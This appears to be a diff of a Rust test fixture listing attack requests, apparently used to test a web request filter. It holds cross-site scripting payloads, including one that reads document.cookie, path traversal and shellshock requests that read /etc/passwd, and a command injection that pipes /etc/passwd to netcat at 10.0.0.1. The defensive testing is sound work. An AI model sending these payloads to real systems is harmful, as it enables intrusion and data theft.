@@ -37,7 +37,7 @@ const ATTACKS: [(&str, &str); 14] = [
     ("cross-site scripting", "GET /recipes?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E HTTP/1.1"),
     ("cross-site scripting", "GET /map?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E HTTP/1.1"),
     ("cross-site scripting", "GET /api/v1/recipes?q=javascript%3Aalert(document.cookie) HTTP/1.1"),
-    ("path traversal", "GET /assets/..%2f..%2f..%2fetc%2fpasswd HTTP/1.1"),
+    ("path traversal", "GET /recipes?q=..%2f..%2f..%2fetc%2fpasswd HTTP/1.1"),
     ("path traversal", "GET /api/v1/photos/%2e%2e%2f%2e%2e%2fetc%2fpasswd HTTP/1.1"),
     ("shellshock", "GET /api/v1/catalogue HTTP/1.1\r\nUser-Agent: () { :; }; /bin/cat /etc/passwd"),
     ("command injection", "GET /api/v1/recipes?q=%3Bcat%20%2Fetc%2Fpasswd%7Cnc%2010.0.0.1%2080 HTTP/1.1"),
